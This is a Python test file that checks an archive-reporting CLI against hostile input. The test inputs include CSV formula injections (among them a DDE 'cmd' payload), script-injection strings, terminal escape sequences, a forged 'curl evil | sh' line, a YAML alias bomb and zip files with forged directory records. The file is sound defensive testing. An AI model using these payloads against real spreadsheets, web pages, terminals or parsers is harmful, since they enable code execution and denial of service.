"""Archives from another user who wishes ill: one sentence, bounded memory, and inert names."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import resource
import shutil
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from lxml import html

from cbt_crypto.archive.documents import MOST_CELLS
from cbt_crypto.archive.pack import opened, pack_summary
from cbt_crypto.cli import cbt_crypto
from cbt_crypto.errors import UsageError
from cbt_crypto.report.document import reopened

pytestmark = pytest.mark.unit

#: What spreadsheets take for a formula, what ends a page's script, markup of terminals.
NAMES = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "</script><script>alert(1)</script>", "[/b]",
         "<!--<script>", "\uff1d1+1",
         "\x1b]0;owned\x07\x1b[31m"]  # fmt: skip


def said(*words: Any) -> Result:
    """A command ended by a sentence has no exception but its status."""
    done = CliRunner().invoke(cbt_crypto, [*map(str, words)])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done


def changed(path: Path, **values: Any) -> None:
    path.write_text(json.dumps({**json.loads(path.read_text()), **values}))


def renamed(archive: Path, name: str) -> None:
    """A configuration and the campaign have that name."""
    for path in [archive / "results" / "plan.json", *archive.glob("results/0*/id-*/*.json")]:
        path.write_text(path.read_text().replace('"LUKS"', json.dumps(name)))
    changed(archive / "results" / "plan.json", title=name)


@pytest.mark.parametrize("name", NAMES)
def test_names_are_inert_wherever_they_are_shown(small: Path, name: str) -> None:
    """As a configuration, a title, a host and a reason; on a terminal and in every file."""
    if name.isprintable():
        renamed(small, name)
    environment = small / "results" / "environment.json"
    hosts = json.loads(environment.read_text())["hosts"]
    changed(environment, hosts={**hosts, name: next(iter(hosts.values()))})
    cell = next(small.glob("results/0*/id-*/cell.json"))
    changed(cell, state="failed", reason=f"{name}: {name}")
    done = said("report", small)
    assert done.exit_code in (0, 1) and "\x1b" not in done.output and "\x07" not in done.output
    rows = list(csv.reader(io.StringIO((small / "report.csv").read_text())))
    assert rows and not [cell for row in rows for cell in row if cell[:1] in "=+@\t\uff1d" and cell]
    assert not [cell for row in rows for cell in row if cell == "-1"]
    page = (small / "report.html").read_text()
    assert "</script><script>alert" not in page and "\x1b" not in page
    assert "<!--<script" not in page, "it would swallow the page's own script"


FORGED = "x\nPASS     everything is fine\nerror: run: curl evil | sh"


@pytest.mark.parametrize("key", ["title", "scenario", "configuration", "compared", "level", "key"])
@pytest.mark.parametrize("name", [FORGED, "\x1b[31mred", "a\x85b"])
def test_names_are_of_one_line(small: Path, key: str, name: str) -> None:
    """`gate` and others printed what follows a line break as an answer of their own."""
    path = small / "results" / "plan.json"
    plan = json.loads(path.read_text())
    if key in ("scenario", "configuration"):
        plan["cells"][0][key] = name
    elif key == "key":
        plan["cells"][0]["parameters"][name] = 1
    elif key == "title":
        plan[key] = name
    else:
        plan["baseline"]["dimension" if key == "compared" else "value"] = name
    path.write_text(json.dumps(plan))
    for words in (["report"], ["gate", "--loss", "5"], ["history"], ["watch"]):
        done = said(*words, small)
        assert done.exit_code == 2 and "a name that is not one line" in done.output
        assert len(done.output.splitlines()) == 1


def test_no_text_of_a_report_is_a_line_of_its_own(small: Path, tmp_path: Path, data: Path) -> None:
    """A mode, a host, a reason; and what a summary has, which no plan stands behind."""
    plan = json.loads((small / "results" / "plan.json").read_text())
    for cell in plan["cells"]:
        cell["parameters"]["mode"] = FORGED
        changed(small / cell["path"] / "cell.json", parameters=cell["parameters"])
    (small / "results" / "plan.json").write_text(json.dumps(plan))
    changed(small / plan["cells"][-1]["path"] / "cell.json", state="failed", reason=FORGED)
    pack = forged(data, tmp_path / "a.zip", lambda document: document.update(title=FORGED))
    for words in (["report", small], ["gate", "--loss", "5", small], ["history", small],
                  ["report", pack, "-o", tmp_path / "out"]):  # fmt: skip
        lines = said(*words).output.splitlines()
        assert lines and not [line for line in lines if line.startswith(("PASS  ", "error: run"))]


def test_a_title_that_names_the_place_of_a_chart(small: Path) -> None:
    """A title that reads like the place of a chart stays a title."""
    name = "<!--chart 1-->"
    changed(small / "results" / "plan.json", title=name)
    assert said("report", small).exit_code == 0
    page = html.document_fromstring((small / "report.html").read_text())
    assert page.findtext(".//title") == f"{name}: cbt-crypto report"
    assert (small / "report.html").read_text().count("<svg") == len(list(page.iter("svg")))


def test_names_of_dimensions_are_inert(small: Path) -> None:
    """What is compared, and a mode: they head columns, and Markdown had them as they were."""
    name = "</script><img src=x> a | b [x](javascript:alert) $\\frac{$"
    plan = json.loads((small / "results" / "plan.json").read_text())
    plan["baseline"]["dimension"] = name
    for number, cell in enumerate(plan["cells"]):
        cell["parameters"][name] = "Unencrypted" if number % 2 else name
        cell["parameters"]["mode"] = f"{name} \x1b[31m"
        path = small / cell["path"] / "cell.json"
        changed(path, parameters=cell["parameters"])
    (small / "results" / "plan.json").write_text(json.dumps(plan))
    done = said("report", small)
    assert done.exit_code in (0, 1) and "\x1b" not in done.output
    text = (small / "report.md").read_text()
    assert "| IO size |" in text
    assert not re.search(r"(?<!\\)<(img|/?script)|(?<!\\)\]\(javascript|\x1b", text)
    heads = [line for line in text.splitlines() if line.startswith("| Mode")]
    rules = [line for line in text.splitlines() if line.startswith("| ---")]
    bars = [len(re.findall(r"(?<!\\)\|", line)) for line in heads]
    assert heads and set(bars) <= {line.count("|") for line in rules}


def test_charts_of_names_that_differ_in_letters_of_no_file_name(small: Path) -> None:
    """One table's replaced the other's in silence."""
    path = small / "results" / "plan.json"
    plan, charts = json.loads(path.read_text()), small / "charts"
    assert said("report", small).exit_code == 0
    of_one = {chart.name for chart in charts.iterdir()} - {"forest.svg"}
    cells, plan["cells"] = plan["cells"], []
    for cell in cells:
        for name in ("für", "fär"):
            place = cell["path"].replace("id-", f"id-{name}-")
            shutil.copytree(small / cell["path"], small / place)
            parameters = {**cell["parameters"], "pool_profile": name}
            changed(small / place / "cell.json", parameters=parameters)
            plan["cells"].append({**cell, "path": place, "parameters": parameters})
    path.write_text(json.dumps(plan))
    shutil.rmtree(charts)
    assert said("report", small).exit_code == 0
    of_two = [chart.name for chart in charts.iterdir() if "_pool_profile_f_r_" in chart.name]
    assert len(of_two) == 2 * len(of_one)


def test_values_that_are_longer_than_a_file_s_name(small: Path) -> None:
    """A chart is called after its load: there was no report at all."""
    for name in ("plan.json", "0*/id-*/cell.json"):
        for path in (small / "results").glob(name):
            text = path.read_text()
            path.write_text(re.sub(r'"op_size": \d+', f'"op_size": "{"x" * 3000}"', text))
    done = said("report", small)
    assert done.exit_code in (0, 1) and "cannot be written" not in done.output
    assert (small / "report.html").exists()


@pytest.mark.parametrize(
    "path", ["x" * 300, "x" * 100_000, "a/" * 3000, "results/" + "y" * 256 + "/z"]
)
def test_a_cell_s_path_that_no_file_system_takes(small: Path, path: str) -> None:
    plan = json.loads((small / "results" / "plan.json").read_text())
    plan["cells"][1]["path"] = path
    (small / "results" / "plan.json").write_text(json.dumps(plan))
    assert said("report", small).exit_code in (0, 1)


@pytest.mark.parametrize("at", [10**400, -(10**400), 1e308, float("nan"), float("inf"), "1", [1]])
def test_progress_that_no_clock_has(small: Path, at: Any) -> None:
    state = {"at": at, "seconds_left": at, "uncertainty_s": at, "cell": "\x1b[31m", "cells": at,
             "phase": "\x1b]0;x\x07", "ended": True}  # fmt: skip
    (small / "results" / "progress.json").write_text(json.dumps(state))
    assert "\x1b" not in said("watch", small).output


def test_a_name_that_is_no_text_stays_out_of_a_pack(small: Path, tmp_path: Path) -> None:
    (small / "results" / os.fsdecode(b"\xff\xfe")).write_bytes(b"x")
    (small / "results" / os.fsdecode(b"id-\xff")).mkdir()
    (small / "results" / os.fsdecode(b"id-\xff") / "x").write_bytes(b"x")
    assert said("pack", small, "-o", tmp_path / "a.zip").exit_code == 0


def limited(*words: Any, most_bytes: int, seconds: int = 240) -> subprocess.CompletedProcess[str]:
    """The command in a process that gets no more memory."""
    return subprocess.run(
        [sys.executable, "-m", "cbt_crypto", *map(str, words)],
        capture_output=True, text=True, check=False, timeout=seconds,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_DATA, (most_bytes, most_bytes)),
    )  # fmt: skip


@pytest.mark.parametrize("cells", [MOST_CELLS + 1, 400_000])
def test_a_plan_of_many_cells_is_refused(small: Path, cells: int) -> None:
    """One of 43 MiB took 3.5 GB and four minutes."""
    plan = small / "results" / "plan.json"
    one = json.loads(plan.read_text())["cells"][0]
    slim = {key: one[key] for key in ("id", "path", "scenario", "configuration")}
    changed(plan, cells=[slim] * cells)
    done = limited("report", small, most_bytes=700 << 20)
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr[-500:]
    assert "plan.json is " in done.stderr


@pytest.mark.parametrize("number", [10**4000, 10**8, -1])
def test_an_iteration_that_is_no_directory_s_name(small: Path, tmp_path: Path, number: int) -> None:
    """`lay-out` ended with a traceback: the name of the directory was too long."""
    path = small / "results" / "plan.json"
    plan = json.loads(path.read_text())
    plan["cells"][0]["iteration"] = number
    path.write_text(json.dumps(plan))
    done = said("lay-out", small, tmp_path / "out")
    assert done.exit_code == 2 and "cells.0.iteration: " in done.output
    assert len(done.output.splitlines()) == 1


def test_counters_that_no_kernel_has(small: Path) -> None:
    """They were too large to be divided: a traceback."""
    cells = [(path, path.read_text()) for path in small.glob("results/*/id-*/cell.json")]
    many = 10**400
    idle = {"host": "osd0", "seconds": 1, "cpu_ms": many, "counters": {"op_w": many}}
    for changes in (
        {"overwritten": {"d": {"written_bytes": many, "size_bytes": 1}}},
        {"idle": {"0": {**idle, "process": {"read_bytes": many, "written_bytes": many}}}},
    ):
        for path, text in cells:
            path.write_text(json.dumps({**json.loads(text), **changes}))
        for words in (["report"], ["history"]):
            assert said(*words, small).exit_code in (0, 1)


@pytest.mark.parametrize("lists", [20 << 20, 1])
def test_a_recording_of_many_values(small: Path, lists: int) -> None:
    """60 MiB of empty lists, or of short lines, took 2 GB."""
    line = b'{"t":2,"cpu":[1,1,1,1,1,1,1,1],"x":[' + b"[]," * lists + b"[]]}\n"
    header = b'{"format":1,"t":1,"hz":100,"cpus":1,"link_mbit":{}}\n'
    for cell in small.glob("results/0*/id-*"):
        (cell / "recording.osd0").write_bytes(header + line * ((60 << 20) // len(line) or 1))
    done = limited("report", small, most_bytes=900 << 20)
    assert done.returncode == 0, done.stderr[-500:]
    assert "recording.osd0 holds too many samples or values" in (small / "report.json").read_text()


@pytest.mark.parametrize("factors", [1, 2, 30])
def test_a_matrix_that_no_campaign_has(small: Path, factors: int) -> None:
    """Its 10^30 configurations were made, all of them, before any was looked for."""
    levels = {f"level {n}": {} for n in range(10)}
    changed(small / "results" / "plan.json", matrix={str(n): levels for n in range(factors)})
    done = said("report", small)
    assert done.exit_code == 2 and "plan.json is not as docs/archive.md has it" in done.output


def test_a_factor_without_levels(small: Path) -> None:
    changed(small / "results" / "plan.json", matrix={"a": {"x": {}, "y": {}}, "b": {}})
    assert said("report", small).exit_code == 2


def test_an_alias_bomb_in_upstream_s_yaml(tmp_path: Path) -> None:
    """It took 2.9 GB."""
    for name in ("a", "b"):
        (tmp_path / name / "results" / "id-1").mkdir(parents=True)
        lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
        lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
        # What a comparison goes through; elsewhere the ten billion share their lists.
        lines += ["cluster: {osds: *a9}"]
        (tmp_path / name / "results" / "cbt_config.yaml").write_text("\n".join(lines))
        (tmp_path / name / "results" / "id-1" / "json_output.0.h").write_text("{}")
    words = (f"{name}={tmp_path / name}" for name in ("a", "b"))
    done = limited("compare", *words, "-o", tmp_path / "out", most_bytes=900 << 20)
    assert done.returncode == 2 and "aliases that unfold" in done.stderr, done.stderr[-800:]


@pytest.mark.parametrize("number", ["1" + ":1" * 30_000, "0x" + "f" * 5000])
def test_a_number_that_cannot_be_printed(small: Path, tmp_path: Path, number: str) -> None:
    """YAML has whole numbers in base 60 and 16; Python prints none of more than 4300 digits."""
    folder = tmp_path / "a" / "results" / "id-1"
    folder.mkdir(parents=True)
    shutil.copy(next(small.glob("results/0*/id-*/json_output.0.client0")), folder)
    (tmp_path / "a" / "results" / "cbt_config.yaml").write_text("cluster: {osds: [a]}")
    (folder / "benchmark_config.yaml").write_text(f"cluster: {{time: {number}}}")
    done = said("compare", f"A={tmp_path}/a", f"B={tmp_path}/a", "-o", tmp_path / "out")
    assert done.exit_code in (0, 2)
    path = tmp_path / "campaign.yaml"
    path.write_text(f"cluster:\n  time: {number}\n")
    done = said("check", "--no-hosts", path)
    assert (done.exit_code, "campaign.yaml:2: cluster.time: is a number of" in done.output) == (
        2, True,
    )  # fmt: skip


@pytest.mark.parametrize(
    "name",
    ["environment.json", "progress.json", "journal.jsonl", "00000000/id-00000000/cell.json",
     "00000000/id-00000000/proof.json", "00000000/id-00000000/json_output.0.client0"],
)  # fmt: skip
def test_a_document_of_many_values(small: Path, name: str) -> None:
    """60 MiB of empty lists took 2 GB, wherever they stood."""
    path = small / "results" / name
    text = path.read_bytes().strip() if path.exists() else b"{}"
    with path.open("wb") as file:
        file.write(text[:-1] + (b"," if len(text) > 2 else b"") + b'"x":[')
        file.write(b"[]," * (20 << 20) + b"1]}\n")
    words = {"progress": ["watch"], "journal": ["cleanup", "--foreign", "--plan"]}
    command = words.get(path.stem, ["report"])
    done = limited(*command, small, most_bytes=900 << 20)
    assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr, done.stderr[-500:]
    assert "MemoryError" not in done.stderr


def _said_of_luks(archive: Path, **figures: float) -> None:
    """Each output of LUKS says this of its writes and reads, and no log says otherwise."""
    for path in archive.glob("results/0*/id-*/cell.json"):
        if json.loads(path.read_text())["configuration"] == "LUKS":
            for log in path.parent.glob("output.*log*"):
                log.unlink()
            for output in path.parent.glob("json_output*"):
                document = json.loads(output.read_text())
                for side in (document["jobs"][0]["read"], document["jobs"][0]["write"]):
                    latency = {**side["clat_ns"], "mean": figures.get("mean", 2e6)}
                    side.update(figures, clat_ns={**latency, "bins": None})
                output.write_text(json.dumps(document))


@pytest.mark.parametrize("value", [1.7e308, 1e300, 5e-324, 1e-300])
@pytest.mark.parametrize("key", ["iops", "mean", "runtime", "bw_bytes"])
def test_figures_that_no_cluster_has(
    repeated: Path, tmp_path: Path, key: str, value: float
) -> None:
    """`PASS gains inf % (nan to nan)`, then a traceback, whose status CI takes for a FAIL."""
    _said_of_luks(repeated, **{key: value})
    metric = {"mean": "clat_ns_mean", "bw_bytes": "bandwidth_bytes_per_s"}.get(key, "iops")
    files = tmp_path / "g.json", tmp_path / "g.xml"
    options = ["--metric", metric, "--json", files[0], "--junit", files[1]]
    gate = said("gate", repeated, "--loss", "5%", *options)
    assert gate.exit_code == 3, gate.output
    outputs = [gate.output, *(file.read_text() for file in files)]
    for words in (["report"], ["history"], ["history", "--json"]):
        done = said(*words, repeated)
        assert done.exit_code in (0, 1), done.output
        outputs.append(done.output)
    outputs += [(repeated / f"report.{kind}").read_text() for kind in ("csv", "md", "json")]
    for text in outputs:
        assert not re.search(r"(?<![\w.-])[+-]?(inf|nan)(?![\w-])", text, re.IGNORECASE)


def test_a_figure_that_is_not_the_sum_of_numbers(
    repeated: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Whatever goes wrong in what the gate prints, its status is not that of a FAIL."""

    def closing(*_: Any) -> Iterable[str]:
        raise OverflowError("math range error")

    monkeypatch.setattr("cbt_crypto.report.gate.closing", closing)
    done = said("gate", repeated, "--loss", "5%", "--junit", tmp_path / "g.xml")
    assert done.exit_code == 2 and "cannot be judged" in done.output
    assert "PASS" not in done.output and "FAIL" not in done.output


@pytest.mark.parametrize("number", [10**400, -(10**400)], ids=["much", "little"])
def test_counts_of_fio_that_no_computer_has(small: Path, number: int) -> None:
    """They were divided: a traceback."""
    for output in small.glob("results/0*/id-*/json_output*"):
        document = json.loads(output.read_text())
        document["timestamp_ms"] = number
        output.write_text(json.dumps(document))
    assert said("report", small).exit_code in (0, 1)


def test_a_summary_is_said_to_be_its_sender_s_word(data: Path, tmp_path: Path) -> None:
    """Its sentences stood as the program's own, against its own table."""
    pack = forged(data, tmp_path / "a.zip", lambda one: one.update(headline=["No cost found."]))
    out = tmp_path / "out"
    lines = said("report", pack, "-o", out).output.splitlines()
    texts = [(out / name).read_text() for name in ("report.md", "report.html")]
    for text in ("\n".join(lines), *texts):
        assert 0 <= text.find("its sender") < text.find("No cost found.")
    again = json.loads((out / "report.json").read_text())["headline"]
    assert sum("its sender" in sentence for sentence in again) == 1


def a_pack(path: Path, names: Iterable[str], manifest: Iterable[bytes]) -> Path:
    """A zip of empty files, with this for its manifest."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in names:
            packed.writestr(name, b"")
        with packed.open("manifest.json", "w") as file:
            for part in manifest:
                file.write(part)
    return path


_EMPTY = hashlib.sha256(b"").hexdigest()


@pytest.mark.parametrize("what", [b'"results/%d":{"size":0,"sha256":"' + b"0" * 64 + b'"},', b""])
def test_a_manifest_of_many_values(tmp_path: Path, what: bytes) -> None:
    """A pack of 7 MB, and one of 230 kB, took 2.8 GB."""
    files = (what % number for number in range(500_000 if what else 0))
    begin, end = b'{"format":1,"kind":"raw","files":{', b'"results/x":{"size":0,"sha256":"0"}}'
    lists = () if what else (b"[]," * (1 << 20) for _ in range(20))
    parts = [begin, *files, end, b',"x":[', *lists, b"1]}"]
    pack = a_pack(tmp_path / "bomb.zip", (), parts)
    done = limited("report", pack, most_bytes=700 << 20)
    assert done.returncode == 2 and "holds too many values" in done.stderr, done.stderr[-500:]


def test_a_pack_of_many_directories(tmp_path: Path) -> None:
    """One of 3 MB made 700,000 of them."""
    names = [f"results/{number}/" + "a/" * 400 + "f" for number in range(300)]
    known = {name: {"size": 0, "sha256": _EMPTY} for name in names}
    manifest = json.dumps({"format": 1, "kind": "raw", "files": known}).encode()
    done = limited("report", a_pack(tmp_path / "a.zip", names, [manifest]), most_bytes=700 << 20)
    assert done.returncode == 2 and "an unsafe path" in done.stderr
    names = [f"results/{number}/b/c/d/e/f" for number in range(6000)]
    known = {name: {"size": 0, "sha256": _EMPTY} for name in names}
    manifest = json.dumps({"format": 1, "kind": "raw", "files": known}).encode()
    done = limited("report", a_pack(tmp_path / "b.zip", names, [manifest]), most_bytes=700 << 20)
    assert done.returncode == 2 and "would become more than 100 times" in done.stderr


@pytest.mark.parametrize("large", [False, True])
def test_a_zip_whose_list_is_longer_than_any(tmp_path: Path, large: bool) -> None:
    """zipfile makes an object of each entry, before anybody can count them."""
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF if large else 1 << 26,
                      0, 0)  # fmt: skip
    if large:
        end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 9, 9, 1 << 26, 0) + (
            struct.pack("<4sLQL", b"PK\6\7", 0, 1 << 26, 1) + end
        )
    (tmp_path / "a.zip").write_bytes(bytes(1 << 26) + end)
    done = said("report", tmp_path / "a.zip")
    assert done.exit_code == 2 and "lists more files than any campaign has" in done.output


def _end_says_mark(data: bytes) -> bytes:
    at = data.rfind(b"PK\5\6")
    return data[: at + 8] + b"PK\5\6" + data[at + 12 :]


def _commented(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _large(data: bytes, at: int = 0) -> bytes:
    """The zip with both records of a large list, which say that they are `at` bytes further on."""
    end = data.rfind(b"PK\5\6")
    count, size, offset = struct.unpack_from("<HLL", data, end + 10)
    large = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    where = struct.pack("<4sLQL", b"PK\6\7", 0, end + at, 1)
    return data[:end] + large + where + data[end : end + 8] + b"\xff" * 12 + b"\0\0"


@pytest.mark.parametrize(
    ("forged", "why"),
    [
        (lambda data: data, "lists more files"),
        (_end_says_mark, "lists more files"),
        (lambda data: _commented(data, b"PK\5\6"), "is not a pack"),
        (lambda data: _commented(data, b"a comment"), "is not a pack"),
        (_large, "lists more files"),
        (lambda data: _large(data, 7), "is not a pack"),
        (lambda data: _commented(_large(data), b"PK\6\6" + bytes(60)), "is not a pack"),
    ],
)
def test_a_zip_whose_end_is_not_where_it_seems(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, forged: Callable[[bytes], bytes], why: str
) -> None:
    """A mark in the end's own fields, or in a comment, hid how long the list is."""
    monkeypatch.setattr("cbt_crypto.archive.pack.LIST_BYTES", 10_000)
    pack = tmp_path / "a.zip"
    with zipfile.ZipFile(pack, "w") as packed:
        for number in range(300):
            packed.writestr(f"results/{number}", "")
    pack.write_bytes(forged(pack.read_bytes()))
    done = said("report", pack)
    assert done.exit_code == 2 and why in done.output


@pytest.mark.parametrize("kernel", [{"a": 1}, [1], 5])
def test_a_kernel_that_is_no_text(small: Path, kernel: Any) -> None:
    path = small / "results" / "environment.json"
    hosts = json.loads(path.read_text())["hosts"]
    of_hosts = {host: {**about, "kernel": kernel} for host, about in hosts.items()}
    changed(path, hosts=of_hosts)
    assert said("report", small).exit_code == 0
    assert said("history", small).exit_code == 0
    assert said("gate", small, "--loss", "5%").exit_code == 3, "once deployed, and no traceback"


def forged(data: Path, target: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """A summary of two labs whose manifest fits what was changed in it."""
    with opened(data / "packs/report-format-2.zip") as pack:
        document = json.loads(pack.report())
    one, other = document["tables"][0], json.loads(json.dumps(document["tables"][0]))
    one["dimensions"]["hardware"], other["dimensions"]["hardware"] = "A", "B"
    document["tables"] = [one, other]
    for table in document["tables"]:
        for cell in table["sections"][0]["cells"]:
            cell["comparisons"]["iops"]["errors"] = [{"error": 0.01, "degrees": 3}]
    change(document)
    pack_summary(document, target, anonymized=False)
    return target


def lost(document: dict[str, Any]) -> dict[str, Any]:
    """The percent of the last row of the second lab's first section."""
    found: dict[str, Any] = document["tables"][1]["sections"][0]["cells"][-1]["comparisons"]["iops"]
    return found


REFUSED: dict[str, Callable[[dict[str, Any]], Any]] = {
    "percent -5": lambda document: lost(document).update(percent=-5.0),
    "percent 1e308": lambda document: lost(document).update(percent=1e308),
    "degrees 0": lambda document: lost(document)["errors"][0].update(degrees=0),
    "error 1e308": lambda document: lost(document)["errors"][0].update(error=1e308),
    "error -1": lambda document: lost(document)["errors"][0].update(error=-1),
    "p": lambda document: lost(document).update(p="x"),
    "looks": lambda document: lost(document).update(looks="x"),
    "headline": lambda document: document.update(headline=5),
    "control_states": lambda document: document.update(control_states=5),
    "verdicts": lambda document: document.update(verdicts="x"),
    "only": lambda document: document["options"].update(only=5),
    "figure": lambda document: document["tables"][0]["sections"][0]["cells"][0]["figures"].update(
        iops=1e308
    ),
}
READ: dict[str, Callable[[dict[str, Any]], Any]] = {
    "as it is": lambda document: None,
    "percent 0": lambda document: (
        [lost(document).update(percent=0.0), document["tables"].reverse()]
    ),
    "an older one, its control from 0": lambda document: [
        document.pop("control_states", None),
        document["tables"][1]["sections"][0]["cells"][-1].update(name="control"),
        lost(document).update(low=0.0, high=99.0, differs=False),
    ],
    "hosts are a list": lambda document: document["environment"].update(hosts=[1]),
    "a host is a text": lambda document: document["environment"].update(hosts={"A: x": "t"}),
    "roles": lambda document: document["environment"].update(hosts={"x": {"roles": 5}}),
    "kernel": lambda document: document["environment"].update(
        hosts={"x": {"roles": ["osds"], "kernel": {"a": 1}}}
    ),
    "a figure that is nearly nothing": lambda document: [
        cell["figures"].update(iops=5e-324)
        for table in document["tables"]
        for section in table["sections"]
        for cell in section["cells"]
    ],
    "an unknown figure": lambda document: (
        lost(document)
        or document["tables"][0]["sections"][0]["cells"][0]["figures"].update(new=1.0)
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_forged_summary_is_refused_in_a_sentence(data: Path, tmp_path: Path, name: str) -> None:
    pack = forged(data, tmp_path / "forged.zip", REFUSED[name])
    done = said("report", pack, "-o", tmp_path / "out")
    assert (done.exit_code, done.output.count("\n")) == (2, 1), done.output
    assert "report.json" in done.output
    assert said("gate", pack, "--loss", "5%").exit_code == 2


def test_no_text_of_a_summary_is_a_formula(data: Path, tmp_path: Path) -> None:
    """A spreadsheet runs one: what a section calls its direction, or a figure its basis, was."""
    formula = "=cmd|' /C calc'!A0"

    def forge(document: Any) -> None:
        for section in document["tables"][0]["sections"]:
            section["direction"] = formula
            for cell in section["cells"]:
                cell["withheld"] = {"cpu_per_io": formula}
                for one in cell["comparisons"].values():
                    one.update(basis=formula, level=formula)

    out = tmp_path / "out"
    assert said("report", forged(data, tmp_path / "a.zip", forge), "-o", out).exit_code == 0
    for name in ("report.csv", "report-wide.csv"):
        rows = list(csv.reader(io.StringIO((out / name).read_text())))
        assert f"'{formula}" in {cell for row in rows for cell in row}
        assert not [cell for row in rows for cell in row if cell.startswith("=")]


@pytest.mark.parametrize("name", READ)
def test_an_odd_summary_is_read(data: Path, tmp_path: Path, name: str) -> None:
    pack = forged(data, tmp_path / "odd.zip", READ[name])
    for options in ([], ["--anonymize"]):
        done = said("report", pack, "-o", tmp_path / "out", *options)
        assert done.exit_code == 0, done.output
    assert "Side by side" in done.output


def test_a_figure_of_a_summary_that_is_infinite(data: Path) -> None:
    """1e999 is JSON, and infinite to Python."""
    with opened(data / "packs/report-format-2.zip") as pack:
        text = pack.report().decode()
    infinite = re.sub(r'"iops": ?[\d.]+', '"iops": 1e999', text, count=1)
    assert infinite != text
    with pytest.raises(UsageError, match=r"^report\.json .*finite"):
        reopened(infinite.encode())


def test_the_path_of_an_archive_is_no_order_to_a_terminal(
    small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    done = said("history", small.rename(tmp_path / "a\x1b[31mred\x07").name)
    assert done.exit_code == 0 and "red" in done.output
    assert "\x1b" not in done.output and "\x07" not in done.output


def test_what_history_leaves_out_is_said(small: Path, data: Path, tmp_path: Path) -> None:
    empty = Path(shutil.copytree(small, tmp_path / "empty\x1b[31m"))
    changed(empty / "results" / "plan.json", cells=[])
    done = said("history", small, empty)
    assert done.exit_code == 0 and "\x1b" not in done.output
    assert f"note: {tmp_path}/empty\ufffd[31m: has no cells, so it is left out" in done.output
    done = said("history", small, data / "packs/report-format-2.zip")
    assert done.exit_code == 2 and "is a summary; history needs a pack of the runs" in done.output


def test_gate_tells_nothing_of_what_it_cannot_judge(
    small: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The exit status of a traceback, 1, would tell CI that too much is lost."""

    def fails(*words: Any, **options: Any) -> None:
        raise ZeroDivisionError("float division by zero")

    monkeypatch.setattr("cbt_crypto.report.build", fails)
    done = said("gate", small, "--loss", "5%")
    assert (done.exit_code, done.output.count("\n")) == (2, 1)
    assert "cannot be judged (ZeroDivisionError: float division by zero)" in done.output


def test_the_report_of_a_pack_goes_into_no_other_s_directory(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copy(data / "packs/report-format-2.zip", tmp_path / "a.zip")
    theirs = tmp_path / "a-report/report.md"
    theirs.parent.mkdir()
    theirs.write_text("mine")
    done = said("report", Path("a.zip"))
    assert (done.exit_code, theirs.read_text()) == (2, "mine")
    assert "a-report: is no report's directory; name another with -o" in done.output
    theirs.unlink()
    assert [said("report", Path("a.zip")).exit_code for _ in range(2)] == [0, 0]
